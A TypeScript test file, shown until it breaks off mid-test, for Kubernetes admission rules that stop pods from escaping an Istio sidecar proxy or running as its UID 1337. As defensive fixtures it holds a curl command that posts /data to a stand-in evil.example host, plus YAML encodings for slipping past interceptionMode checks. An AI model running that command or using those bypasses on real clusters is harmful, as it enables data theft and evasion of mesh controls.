import * as fs from 'fs';
import * as path from 'path';
import { Chart, Testing } from 'cdk8s';
import { parseAllDocuments } from 'yaml';
import { kyvernoResources } from './pod-fixtures';
import { AppProtocol } from '../../../src/mesh/app-protocol';
import { MeshBaseline } from '../../../src/mesh/mesh-baseline';
import { admits } from '../../../src/policy/admission-cel';
import { PolicyRule, RuleObject, RuleSeverity, kindKeyOf } from '../../../src/policy/rule';
import { ruleContext } from '../../../src/policy/rule-test-kit';
import {
  MESH_PROXY_001, POD_UID_001, meshProxyRules, proxyConfigProblems, proxyImagePattern,
} from '../../../src/policy/rules/mesh-proxy-overrides';
import { POD_KINDS } from '../../../src/policy/rules/workload-pod-specs';
import { HardenedNamespace } from '../../../src/workload/hardened-namespace';
import { SecureService } from '../../../src/workload/secure-service';
import { synthValidated } from '../../helpers';
import { describeWithShared } from '../../shared';

const ctx = ruleContext([]);
const PROXY_IMAGE = 'docker.io/istio/proxyv2:1.30.0';
const APP_IMAGE = `gcr.io/acme/app@sha256:${'a'.repeat(64)}`;

type Meta = { labels?: Record<string, any>; annotations?: Record<string, any> };

/** A Pod in namespace shop (the app's manifest: before injection). */
function pod(spec: object = {}, meta: Meta = {}): RuleObject {
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'shop', ...meta }, spec: { containers: [{ name: 'app', image: APP_IMAGE }], ...spec } };
}
function deployment(spec: object = {}, meta: Meta = {}): RuleObject {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'd', namespace: 'shop' },
    spec: { selector: { matchLabels: { app: 'd' } }, template: { metadata: { labels: { app: 'd' }, ...meta }, spec: { containers: [{ name: 'app', image: APP_IMAGE }], ...spec } } },
  };
}
function cronJob(spec: object = {}, meta: Meta = {}): RuleObject {
  return {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'c', namespace: 'shop' },
    spec: { schedule: '@daily', jobTemplate: { spec: { template: { metadata: meta, spec: { containers: [{ name: 'job', image: APP_IMAGE }], restartPolicy: 'OnFailure', ...spec } } } } },
  };
}
const annotated = (annotations: Record<string, unknown>) => pod({}, { annotations });
const app = (securityContext: object, extra: object = {}) => ({ name: 'app', image: APP_IMAGE, securityContext, ...extra });

// ---------------------------------------------------------------------------------------------
// What Istio 1.30's injector writes (manifests/charts/istio-control/istio-discovery/files/
// injection-template.yaml; pkg/kube/inject/testdata/inject/native-sidecar.yaml.injected and
// hello.yaml.injected show the rendered shape).

const PROXY_SC = {
  allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, privileged: false, readOnlyRootFilesystem: true, runAsGroup: 1337, runAsNonRoot: true, runAsUser: 1337,
};

function iptablesArgs(cni: boolean): string[] {
  return [
    'istio-iptables', '-p', '15001', '-z', '15006', '-u', '1337', '-m', 'REDIRECT', '-i', '*', '-x', '', '-b', '*', '-d', '15090,15021,15020',
    '--log_output_level=default:info', ...(cni ? ['--run-validation', '--skip-rule-apply'] : []),
  ];
}

function proxyContainer(image: string, native: boolean, hold: boolean): Record<string, any> {
  return {
    name: 'istio-proxy',
    image,
    ...(native ? { restartPolicy: 'Always' } : {}),
    args: ['proxy', 'sidecar', '--domain', '$(POD_NAMESPACE).svc.cluster.local', '--proxyLogLevel=warning', '--proxyComponentLogLevel=misc:error', '--log_output_level=default:info'],
    env: [
      { name: 'PILOT_CERT_PROVIDER', value: 'istiod' },
      { name: 'CA_ADDR', value: 'istiod.istio-system.svc:15012' },
      { name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } },
      { name: 'POD_NAMESPACE', valueFrom: { fieldRef: { fieldPath: 'metadata.namespace' } } },
      { name: 'INSTANCE_IP', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
      { name: 'SERVICE_ACCOUNT', valueFrom: { fieldRef: { fieldPath: 'spec.serviceAccountName' } } },
      { name: 'PROXY_CONFIG', value: '{}\n' },
      { name: 'ISTIO_META_POD_PORTS', value: '[\n    {"name":"http","containerPort":8080}\n]' },
      { name: 'ISTIO_META_APP_CONTAINERS', value: 'web' },
      { name: 'ISTIO_META_CLUSTER_ID', value: 'Kubernetes' },
      { name: 'ISTIO_META_INTERCEPTION_MODE', value: 'REDIRECT' },
      { name: 'ISTIO_META_WORKLOAD_NAME', value: 'web' },
      { name: 'ISTIO_META_OWNER', value: 'kubernetes://apis/apps/v1/namespaces/shop/deployments/web' },
      { name: 'ISTIO_META_MESH_ID', value: 'cluster.local' },
      { name: 'TRUST_DOMAIN', value: 'cluster.local' },
    ],
    ...(hold
      ? { lifecycle: { postStart: { exec: { command: ['pilot-agent', 'wait'] } } } }
      : native ? { lifecycle: { preStop: { exec: { command: ['pilot-agent', 'request', '--debug-port=15020', 'POST', 'drain'] } } } } : {}),
    ports: [{ containerPort: 15090, name: 'http-envoy-prom', protocol: 'TCP' }],
    readinessProbe: { failureThreshold: 4, httpGet: { path: '/healthz/ready', port: 15021 }, periodSeconds: 15, timeoutSeconds: 3 },
    startupProbe: { failureThreshold: 600, httpGet: { path: '/healthz/ready', port: 15021 }, periodSeconds: 1, timeoutSeconds: 3 },
    resources: { limits: { cpu: '2', memory: '1Gi' }, requests: { cpu: '100m', memory: '128Mi' } },
    securityContext: { ...PROXY_SC },
    volumeMounts: [
      { mountPath: '/var/run/secrets/workload-spiffe-uds', name: 'workload-socket' },
      { mountPath: '/var/run/secrets/credential-uds', name: 'credential-socket' },
      { mountPath: '/var/run/secrets/workload-spiffe-credentials', name: 'workload-certs' },
      { mountPath: '/var/run/secrets/istio', name: 'istiod-ca-cert' },
      { mountPath: '/var/lib/istio/data', name: 'istio-data' },
      { mountPath: '/etc/istio/proxy', name: 'istio-envoy' },
      { mountPath: '/var/run/secrets/tokens', name: 'istio-token' },
      { mountPath: '/etc/istio/pod', name: 'istio-podinfo' },
    ],
  };
}

function initContainer(image: string, cni: boolean): Record<string, any> {
  return {
    name: cni ? 'istio-validation' : 'istio-init',
    image,
    args: iptablesArgs(cni),
    resources: { limits: { cpu: '2', memory: '1Gi' }, requests: { cpu: '100m', memory: '128Mi' } },
    securityContext: cni
      ? { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, privileged: false, readOnlyRootFilesystem: true, runAsGroup: 1337, runAsNonRoot: true, runAsUser: 1337 }
      : { allowPrivilegeEscalation: false, capabilities: { add: ['NET_ADMIN', 'NET_RAW'], drop: ['ALL'] }, privileged: false, readOnlyRootFilesystem: false, runAsGroup: 0, runAsNonRoot: false, runAsUser: 0 },
  };
}

interface InjectedOptions {
  /** The istio-cni plugin: istio-validation instead of istio-init, and the interception annotations. */
  readonly cni?: boolean;
  /** Native sidecars: istio-proxy in initContainers with restartPolicy Always. */
  readonly native?: boolean;
  /** holdApplicationUntilProxyStarts (classic sidecars): postStart pilot-agent wait. */
  readonly hold?: boolean;
  readonly image?: string;
}

/** A Pod of the library's `web` Deployment as it reaches admission after Istio 1.30's injector. */
function injectedPod(o: InjectedOptions = {}): any {
  const image = o.image ?? PROXY_IMAGE;
  const init = initContainer(image, !!o.cni);
  const proxy = proxyContainer(image, !!o.native, !!o.hold);
  const web = {
    name: 'web',
    image: APP_IMAGE,
    ports: [{ containerPort: 8080, name: 'http' }],
    securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, privileged: false, readOnlyRootFilesystem: true, runAsNonRoot: true },
  };
  const volumes = ['workload-socket', 'credential-socket', 'workload-certs', 'istio-envoy', 'istio-data', 'istio-podinfo', 'istio-token', 'istiod-ca-cert'];
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'web-5d9c7b8f6-x2x7q',
      namespace: 'shop',
      labels: {
        'app': 'web',
        'pod-template-hash': '5d9c7b8f6',
        'security.istio.io/tlsMode': 'istio',
        'service.istio.io/canonical-name': 'web',
        'service.istio.io/canonical-revision': 'latest',
      },
      annotations: {
        'istio.io/rev': 'default',
        'kubectl.kubernetes.io/default-container': 'web',
        'kubectl.kubernetes.io/default-logs-container': 'web',
        'prometheus.io/path': '/stats/prometheus',
        'prometheus.io/port': '15020',
        'prometheus.io/scrape': 'true',
        'sidecar.istio.io/status': JSON.stringify({
          initContainers: o.native ? [init.name, 'istio-proxy'] : [init.name],
          containers: o.native ? null : ['istio-proxy'],
          volumes,
          imagePullSecrets: null,
          revision: 'default',
        }),
        ...(o.cni ? {
          'sidecar.istio.io/interceptionMode': 'REDIRECT',
          'traffic.sidecar.istio.io/excludeInboundPorts': '15020',
          'traffic.sidecar.istio.io/includeInboundPorts': '*',
          'traffic.sidecar.istio.io/includeOutboundIPRanges': '*',
        } : {}),
      },
    },
    spec: {
      automountServiceAccountToken: false,
      containers: o.native ? [web] : [web, proxy],
      initContainers: o.native ? [init, proxy] : [init],
      securityContext: { fsGroupChangePolicy: 'Always', runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
      serviceAccountName: 'web',
      volumes: [
        { name: 'workload-socket', emptyDir: {} },
        { name: 'credential-socket', emptyDir: {} },
        { name: 'workload-certs', emptyDir: {} },
        { emptyDir: { medium: 'Memory' }, name: 'istio-envoy' },
        { emptyDir: {}, name: 'istio-data' },
        { downwardAPI: { items: [{ fieldRef: { fieldPath: 'metadata.labels' }, path: 'labels' }, { fieldRef: { fieldPath: 'metadata.annotations' }, path: 'annotations' }] }, name: 'istio-podinfo' },
        { name: 'istio-token', projected: { sources: [{ serviceAccountToken: { audience: 'istio-ca', expirationSeconds: 43200, path: 'istio-token' } }] } },
        { configMap: { name: 'istio-ca-root-cert' }, name: 'istiod-ca-cert' },
      ],
    },
  };
}

/** The injected Pod, altered by `change` (a deep copy). */
function alteredPod(change: (p: any) => void, o: InjectedOptions = {}): RuleObject {
  const p = injectedPod(o);
  change(p);
  return p;
}
const proxyOf = (p: any) => [...p.spec.containers, ...p.spec.initContainers].find((c: any) => c.name === 'istio-proxy');
const initOf = (p: any) => p.spec.initContainers.find((c: any) => c.name === 'istio-init' || c.name === 'istio-validation');

// ---------------------------------------------------------------------------------------------
// check(): the app's manifests (before injection)

/** Pre-injection manifests both rules pass; admission admits them too. */
const GOOD: [string, RuleObject][] = [
  ['a plain pod', pod()],
  ['app UID and GID other than 1337', pod({ securityContext: { runAsUser: 10001, runAsGroup: 10001, fsGroup: 2000, supplementalGroups: [3000, 1338] }, containers: [app({ runAsUser: 10001, runAsGroup: 0 })] })],
  ['interceptionMode REDIRECT', annotated({ 'sidecar.istio.io/interceptionMode': 'REDIRECT' })],
  ['interceptionMode TPROXY', annotated({ 'sidecar.istio.io/interceptionMode': 'TPROXY' })],
  ['proxy.istio.io/config with safe fields (YAML)', annotated({ 'proxy.istio.io/config': 'holdApplicationUntilProxyStarts: true\nterminationDrainDuration: 30s\n' })],
  ['proxy.istio.io/config with safe fields (JSON)', annotated({ 'proxy.istio.io/config': '{"concurrency": 2, "proxyStatsMatcher": {"inclusionPrefixes": ["cluster.outbound"]}}' })],
  ['proxy.istio.io/config empty', annotated({ 'proxy.istio.io/config': '' })],
  ['inject.istio.io/templates: sidecar (the default)', annotated({ 'inject.istio.io/templates': ' sidecar ' })],
  ['status port 15020 (the default)', annotated({ 'status.sidecar.istio.io/port': '15020' })],
  ['sidecar.istio.io/inject true (MESH-INJ-001\'s)', pod({}, { labels: { 'sidecar.istio.io/inject': 'true' } })],
  ['a container whose name only starts like istio-proxy', pod({ containers: [{ name: 'istio-proxy-exporter', image: APP_IMAGE }] })],
  ['images that are not the proxy', pod({
    containers: [
      { name: 'a', image: 'docker.io/istio/pilot:1.30.0' }, { name: 'b', image: 'example.com/proxyv2-tools:1' }, { name: 'c', image: 'example.com/myproxyv2:1' },
    ],
  })],
  ['a Deployment with a clean template', deployment({ securityContext: { runAsUser: 10001 } }, { annotations: { 'sidecar.istio.io/interceptionMode': 'REDIRECT' } })],
  ['a CronJob with a clean template', cronJob({}, { annotations: { 'proxy.istio.io/config': 'holdApplicationUntilProxyStarts: true' } })],
  ['a Deployment without a template spec', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'd' }, spec: { template: {} } }],
  ['a Pod without spec', { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' } }],
];

/** Pre-injection manifests: the paths each rule reports; admission rejects where a rule reports. */
const BAD: [string, RuleObject, string[], string[]][] = [
  // MESH-PROXY-001: annotations
  ['interceptionMode NONE', annotated({ 'sidecar.istio.io/interceptionMode': 'NONE' }), ['metadata.annotations["sidecar.istio.io/interceptionMode"]'], []],
  ['interceptionMode none (Istio is case-sensitive and rejects it)', annotated({ 'sidecar.istio.io/interceptionMode': 'none' }), ['metadata.annotations["sidecar.istio.io/interceptionMode"]'], []],
  ['interceptionMode Redirect', annotated({ 'sidecar.istio.io/interceptionMode': 'Redirect' }), ['metadata.annotations["sidecar.istio.io/interceptionMode"]'], []],
  ['proxy.istio.io/config interceptionMode: NONE', annotated({ 'proxy.istio.io/config': 'interceptionMode: NONE' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config as JSON', annotated({ 'proxy.istio.io/config': '{"holdApplicationUntilProxyStarts":true,"interceptionMode":"NONE"}' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config, proto name and enum number (2 is NONE)', annotated({ 'proxy.istio.io/config': 'interception_mode: 2' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config quoted NONE', annotated({ 'proxy.istio.io/config': 'interceptionMode: "NONE"' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config even REDIRECT (the mode is the mesh\'s)', annotated({ 'proxy.istio.io/config': 'interceptionMode: REDIRECT' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config binaryPath', annotated({ 'proxy.istio.io/config': 'binaryPath: /var/lib/istio/data/run.sh' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config customConfigFile', annotated({ 'proxy.istio.io/config': 'custom_config_file: /etc/my-envoy.json' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config proxyBootstrapTemplatePath', annotated({ 'proxy.istio.io/config': 'proxyBootstrapTemplatePath: /tmp/b.json' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config key spelled with an escape', annotated({ 'proxy.istio.io/config': '"\\u0069nterceptionMode": NONE' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config key spelled with a YAML tag', annotated({ 'proxy.istio.io/config': '? !!binary aW50ZXJjZXB0aW9uTW9kZQ==\n: NONE' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config key through a YAML 1.1 merge key', annotated({ 'proxy.istio.io/config': '<<: {interceptionMode: NONE}' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['proxy.istio.io/config value through an alias', annotated({ 'proxy.istio.io/config': 'tracing: &m NONE\ninterceptionMode: *m' }), ['metadata.annotations["proxy.istio.io/config"]'], []],
  ['sidecar.istio.io/proxyImage', annotated({ 'sidecar.istio.io/proxyImage': 'docker.io/istio/proxyv2:1.30.0' }), ['metadata.annotations["sidecar.istio.io/proxyImage"]'], []],
  ['inject.istio.io/templates grpc-agent', annotated({ 'inject.istio.io/templates': 'grpc-agent' }), ['metadata.annotations["inject.istio.io/templates"]'], []],
  ['inject.istio.io/templates sidecar plus another', annotated({ 'inject.istio.io/templates': 'sidecar,custom' }), ['metadata.annotations["inject.istio.io/templates"]'], []],
  ['proxy.istio.io/overrides', annotated({ 'proxy.istio.io/overrides': '{"containers":[{"name":"istio-proxy","command":["sh"]}]}' }), ['metadata.annotations["proxy.istio.io/overrides"]'], []],
  ['status port moved onto the app\'s port', annotated({ 'status.sidecar.istio.io/port': '8080' }), ['metadata.annotations["status.sidecar.istio.io/port"]'], []],
  ['a Deployment template with the status annotation', deployment({}, { annotations: { 'sidecar.istio.io/status': '{"containers":["istio-proxy"]}' } }),
    ['spec.template.metadata.annotations["sidecar.istio.io/status"]'], []],
  ['a Deployment template with interceptionMode NONE', deployment({}, { annotations: { 'sidecar.istio.io/interceptionMode': 'NONE' } }),
    ['spec.template.metadata.annotations["sidecar.istio.io/interceptionMode"]'], []],
  ['a CronJob template with proxyImage', cronJob({}, { annotations: { 'sidecar.istio.io/proxyImage': 'evil.example/proxy:1' } }),
    ['spec.jobTemplate.spec.template.metadata.annotations["sidecar.istio.io/proxyImage"]'], []],
  // MESH-PROXY-001: containers
  ['a Deployment declaring istio-proxy (image auto: a customization)', deployment({ containers: [{ name: 'app', image: APP_IMAGE }, { name: 'istio-proxy', image: 'auto', args: ['proxy', 'sidecar', '--concurrency=8'] }] }),
    ['spec.template.spec.containers[1].name'], []],
  ['istio-proxy with the attacker\'s image and UID 1337', pod({ containers: [{ name: 'app', image: APP_IMAGE }, { name: 'istio-proxy', image: 'evil.example/exfil:1', securityContext: { runAsUser: 1337 } }] }),
    ['spec.containers[1].name'], ['spec.containers[1].securityContext.runAsUser']],
  ['ISTIO-PROXY in upper case', deployment({ containers: [{ name: 'ISTIO-PROXY', image: 'evil.example/exfil:1' }] }), ['spec.template.spec.containers[0].name'], []],
  ['istio-init declared as an init container', deployment({ initContainers: [{ name: 'istio-init', image: PROXY_IMAGE, args: ['istio-iptables', '-u', '1000'] }] }),
    ['spec.template.spec.initContainers[0].name'], []],
  ['istio-validation declared', cronJob({ initContainers: [{ name: 'Istio-Validation', image: APP_IMAGE }] }), ['spec.jobTemplate.spec.template.spec.initContainers[0].name'], []],
  ['the proxy image in an app container', deployment({ containers: [{ name: 'app', image: 'docker.io/istio/proxyv2:1.30.0-distroless', command: ['bash'] }] }),
    ['spec.template.spec.containers[0].image'], []],
  ['the proxy image in an ephemeral container', pod({ ephemeralContainers: [{ name: 'debugger', image: 'gcr.io/istio-release/proxyv2:1.30.0' }] }), ['spec.ephemeralContainers[0].image'], []],
  // POD-UID-001
  ['container runAsUser 1337', pod({ containers: [app({ runAsUser: 1337 })] }), [], ['spec.containers[0].securityContext.runAsUser']],
  ['container runAsGroup 1337', deployment({ containers: [app({ runAsUser: 10001, runAsGroup: 1337 })] }), [], ['spec.template.spec.containers[0].securityContext.runAsGroup']],
  ['init container runAsUser 1337', cronJob({ initContainers: [app({ runAsUser: 1337 })] }), [], ['spec.jobTemplate.spec.template.spec.initContainers[0].securityContext.runAsUser']],
  ['ephemeral container runAsUser 1337', pod({ ephemeralContainers: [{ name: 'debug', image: 'busybox', securityContext: { runAsUser: 1337 } }] }), [],
    ['spec.ephemeralContainers[0].securityContext.runAsUser']],
  ['UID 1337 set only on the pod and inherited', pod({ securityContext: { runAsUser: 1337 } }), [], ['spec.securityContext.runAsUser']],
  ['GID 1337 set only on the pod', deployment({ securityContext: { runAsGroup: 1337 } }), [], ['spec.template.spec.securityContext.runAsGroup']],
  ['fsGroup 1337', pod({ securityContext: { fsGroup: 1337 } }), [], ['spec.securityContext.fsGroup']],
  ['1337 among supplementalGroups', pod({ securityContext: { supplementalGroups: [3000, 1337] } }), [], ['spec.securityContext.supplementalGroups[1]']],
  ['runAsUser "1337" as a string', pod({ containers: [app({ runAsUser: '1337' })] }), [], ['spec.containers[0].securityContext.runAsUser']],
  ['runAsGroup 1337.5 (not an integer)', pod({ containers: [app({ runAsGroup: 1337.5 })] }), [], ['spec.containers[0].securityContext.runAsGroup']],
  ['supplementalGroups with a string', pod({ securityContext: { supplementalGroups: ['1337'] } }), [], ['spec.securityContext.supplementalGroups[0]']],
];

describe('MESH-PROXY-001 and POD-UID-001 (EXC-1, OPS-1): check() over the app\'s manifests', () => {
  test('metadata', () => {
    for (const [rule, id, title] of [[MESH_PROXY_001, 'MESH-PROXY-001', 'No pod customizes or escapes the injected proxy'], [POD_UID_001, 'POD-UID-001', 'No app container runs as UID or GID 1337']] as const) {
      expect([rule.id, rule.title, rule.severity, rule.practices]).toEqual([id, title, RuleSeverity.ERROR, ['EXC-1', 'OPS-1']]);
      expect(rule.kinds).toEqual(POD_KINDS);
      expect(rule.admission!.resources.flatMap((r) => r.resources)).toEqual(expect.arrayContaining(['pods', 'pods/ephemeralcontainers', 'deployments', 'cronjobs']));
    }
  });

  test.each(GOOD)('passes: %s', (_n, o) => {
    expect(MESH_PROXY_001.check(o, ctx)).toEqual([]);
    expect(POD_UID_001.check(o, ctx)).toEqual([]);
  });

  test.each(BAD)('fails: %s', (_n, o, proxyPaths, uidPaths) => {
    expect(MESH_PROXY_001.check(o, ctx).map((v) => v.path)).toEqual(proxyPaths);
    expect(POD_UID_001.check(o, ctx).map((v) => v.path)).toEqual(uidPaths);
  });

  test.each([...GOOD.map(([n, o]): [string, RuleObject] => [n, o]), ...BAD.map(([n, o]): [string, RuleObject] => [n, o])])('check() and admission CEL agree: %s', (_n, o) => {
    for (const rule of [MESH_PROXY_001, POD_UID_001]) {
      expect([rule.id, admits(rule.admission!, o)]).toEqual([rule.id, rule.check(o, ctx).length === 0]);
    }
  });

  test('messages say what escapes and why', () => {
    expect(MESH_PROXY_001.check(annotated({ 'sidecar.istio.io/interceptionMode': 'NONE' }), ctx)[0].message).toMatch(/^Pod annotation sidecar.istio.io\/interceptionMode: "NONE" turns traffic redirection off/);
    expect(MESH_PROXY_001.check(annotated({ 'sidecar.istio.io/interceptionMode': 'none' }), ctx)[0].message).toMatch(/not an interception mode Istio accepts \(exactly REDIRECT or TPROXY\)/);
    expect(MESH_PROXY_001.check(deployment({}, { annotations: { 'proxy.istio.io/config': 'interception_mode: 2' } }), ctx)[0].message)
      .toBe('Deployment pod template annotation proxy.istio.io/config sets interception_mode: 2, which sets the interception mode (NONE turns traffic redirection off)');
    expect(MESH_PROXY_001.check(pod({ containers: [{ name: 'istio-proxy', image: 'auto' }] }), ctx)[0].message).toMatch(/^container "istio-proxy" is declared in the manifest: the injector writes istio-proxy itself/);
    expect(POD_UID_001.check(pod({ securityContext: { runAsUser: 1337 } }), ctx)[0].message).toMatch(/applies to every container that does not set its own: UID 1337 is the proxy's/);
    expect(POD_UID_001.check(pod({ initContainers: [app({ runAsGroup: 1337 })] }), ctx)[0].message).toMatch(/^init container "app" sets securityContext.runAsGroup 1337: GID 1337 is the proxy's group/);
  });

  test('an attacker\'s istio-proxy is reported by both rules (name, then UID)', () => {
    const o = pod({ containers: [{ name: 'istio-proxy', image: 'evil.example/exfil:1', command: ['sh', '-c', 'curl -d @/data https://evil.example'], securityContext: { runAsUser: 1337, runAsGroup: 1337 } }] });
    expect(MESH_PROXY_001.check(o, ctx).map((v) => v.path)).toEqual(['spec.containers[0].name']);
    expect(POD_UID_001.check(o, ctx).map((v) => v.path)).toEqual(['spec.containers[0].securityContext.runAsUser', 'spec.containers[0].securityContext.runAsGroup']);
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(false);
    expect(admits(POD_UID_001.admission!, o)).toBe(false);
  });

  test.each([
    ['null spec', { apiVersion: 'v1', kind: 'Pod', metadata: null, spec: null }],
    ['annotations of the wrong type', { apiVersion: 'v1', kind: 'Pod', metadata: { annotations: 'x', labels: [] }, spec: { containers: 'x' } }],
    ['non-string annotation values', pod({}, { annotations: { 'sidecar.istio.io/interceptionMode': false, 'proxy.istio.io/config': 7, 'inject.istio.io/templates': null } })],
    ['containers of odd shapes', pod({ containers: [null, 3, { name: 7, image: ['x'], securityContext: 'x' }, { securityContext: { runAsUser: null } }], initContainers: {} })],
    ['securityContext of odd shapes', pod({ securityContext: { supplementalGroups: 'x', fsGroup: {} } })],
    ['a CronJob with a null jobTemplate', { apiVersion: 'batch/v1', kind: 'CronJob', spec: { jobTemplate: null } }],
    ['no kind', {}],
  ])('odd shape does not throw: %s', (_n, o) => {
    for (const rule of [MESH_PROXY_001, POD_UID_001]) expect(() => rule.check(o as RuleObject, ctx)).not.toThrow();
  });

  test('wrong-shaped security fields are findings, not silence', () => {
    const o = pod({ securityContext: { supplementalGroups: 'x', fsGroup: '1337' } }, { annotations: { 'sidecar.istio.io/interceptionMode': false, 'proxy.istio.io/config': 7 } });
    expect(MESH_PROXY_001.check(o, ctx).map((v) => v.path)).toEqual(['metadata.annotations["sidecar.istio.io/interceptionMode"]', 'metadata.annotations["proxy.istio.io/config"]']);
    expect(POD_UID_001.check(o, ctx).map((v) => v.path)).toEqual(['spec.securityContext.fsGroup', 'spec.securityContext.supplementalGroups']);
    expect(POD_UID_001.check(pod({ containers: [{ name: 'a', securityContext: { runAsUser: null } }] }), ctx)).toEqual([]);
  });

  test('other kinds are ignored', () => {
    const service = { apiVersion: 'v1', kind: 'Service', metadata: { name: 's', annotations: { 'sidecar.istio.io/interceptionMode': 'NONE' } }, spec: { securityContext: { runAsUser: 1337 } } };
    expect(MESH_PROXY_001.check(service, ctx)).toEqual([]);
    expect(POD_UID_001.check(service, ctx)).toEqual([]);
    for (const rule of [MESH_PROXY_001, POD_UID_001]) expect(admits(rule.admission!, { ...service, kind: 'ConfigMap' })).toBe(true);
  });

  test('custom workload kinds (Argo Rollouts\' Rollout) are read by check() only; admission does not match them', () => {
    const rollout = {
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Rollout',
      metadata: { name: 'r', namespace: 'shop' },
      spec: { template: { metadata: { annotations: { 'sidecar.istio.io/interceptionMode': 'NONE' } }, spec: { containers: [app({ runAsUser: 1337 }), { name: 'istio-proxy', image: 'auto' }] } } },
    };
    expect(MESH_PROXY_001.check(rollout, ctx).map((v) => v.path)).toEqual(['spec.template.metadata.annotations["sidecar.istio.io/interceptionMode"]', 'spec.template.spec.containers[1].name']);
    expect(POD_UID_001.check(rollout, ctx).map((v) => v.path)).toEqual(['spec.template.spec.containers[0].securityContext.runAsUser']);
    for (const rule of [MESH_PROXY_001, POD_UID_001]) expect(admits(rule.admission!, rollout)).toBe(true);
  });

  test('sidecar.istio.io/inject is MESH-INJ-001\'s: not reported again', () => {
    const off = deployment({}, { labels: { 'sidecar.istio.io/inject': 'false' }, annotations: { 'sidecar.istio.io/inject': 'false' } });
    expect(MESH_PROXY_001.check(off, ctx)).toEqual([]);
    expect(admits(MESH_PROXY_001.admission!, off)).toBe(true);
  });
});

describe('proxy.istio.io/config: parsed by check(), a conservative string test in CEL', () => {
  test('proxyConfigProblems', () => {
    expect(proxyConfigProblems('holdApplicationUntilProxyStarts: true')).toEqual([]);
    expect(proxyConfigProblems('')).toEqual([]);
    expect(proxyConfigProblems('interceptionMode: NONE\nbinary_path: /x')).toEqual([
      'sets interceptionMode: "NONE", which sets the interception mode (NONE turns traffic redirection off)',
      'sets binary_path: "/x", which replaces the program pilot-agent runs as the proxy (with UID 1337, whose traffic is never redirected)',
    ]);
    expect(proxyConfigProblems('a: [1')[0]).toMatch(/^is not valid YAML or JSON/);
    expect(proxyConfigProblems('a: 1\na: 2')[0]).toMatch(/^is not valid YAML or JSON/);
    expect(proxyConfigProblems('just a string')).toEqual(['is not a mapping of ProxyConfig fields']);
    expect(proxyConfigProblems('!!str x: 1')).toEqual(['uses a YAML tag (`!...`), which can spell a field differently from how it reads']);
  });

  // Where the two forms differ on purpose: CEL cannot decode YAML, so it errs on the side of rejecting.
  test.each([
    ['a denied word in a comment', 'holdApplicationUntilProxyStarts: true # not the interceptionMode'],
    ['a denied word in a value', 'proxyMetadata: {NOTE: "binaryPath is the mesh\'s"}'],
    ['a backslash escape in a regex', 'proxyStatsMatcher: {inclusionRegexps: [".*upstream_rq\\\\.5xx"]}'],
  ])('admission rejects, check() passes: %s', (_n, value) => {
    const o = annotated({ 'proxy.istio.io/config': value });
    expect(MESH_PROXY_001.check(o, ctx)).toEqual([]);
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(false);
  });

  test.each([
    ['unparsable YAML', 'a: [1'],
    ['a scalar, not a mapping', 'holdApplicationUntilProxyStarts'],
  ])('check() reports, admission leaves it to Istio (its injector rejects the pod): %s', (_n, value) => {
    const o = annotated({ 'proxy.istio.io/config': value });
    expect(MESH_PROXY_001.check(o, ctx)).toHaveLength(1);
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(true);
  });
});

describe('istio.io/rev on a pod: compared with its Namespace in the output (check() only)', () => {
  const ns = (labels: Record<string, string>) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop', labels } });
  const withRev = (labels: Record<string, unknown>, annotations: Record<string, unknown> = {}) => deployment({}, { labels: { app: 'd', ...labels }, annotations });

  test.each([
    ['same revision', ns({ 'istio.io/rev': 'stable' }), withRev({ 'istio.io/rev': 'stable' }), []],
    ['no pod revision', ns({ 'istio.io/rev': 'stable' }), withRev({}), []],
    ['istio-injection: enabled is the default revision', ns({ 'istio-injection': 'enabled' }), withRev({ 'istio.io/rev': 'default' }, { 'istio.io/rev': 'default' }), []],
    ['another revision', ns({ 'istio.io/rev': 'stable' }), withRev({ 'istio.io/rev': 'canary' }), ['spec.template.metadata.labels["istio.io/rev"]']],
    ['a revision in an istio-injection namespace', ns({ 'istio-injection': 'enabled' }), withRev({ 'istio.io/rev': 'old' }), ['spec.template.metadata.labels["istio.io/rev"]']],
    ['an empty pod revision', ns({ 'istio.io/rev': 'stable' }), withRev({ 'istio.io/rev': '' }), ['spec.template.metadata.labels["istio.io/rev"]']],
    ['the annotation too', ns({ 'istio.io/rev': 'stable' }), withRev({}, { 'istio.io/rev': 'canary' }), ['spec.template.metadata.annotations["istio.io/rev"]']],
    ['a namespace with an empty revision is MESH-INJ-001\'s, not compared', ns({ 'istio.io/rev': '' }), withRev({ 'istio.io/rev': 'x' }), []],
    ['a namespace without injection labels is MESH-INJ-002\'s, not compared', ns({}), withRev({ 'istio.io/rev': 'x' }), []],
  ])('%s', (_n, namespace, o, paths) => {
    const objects = [namespace, o];
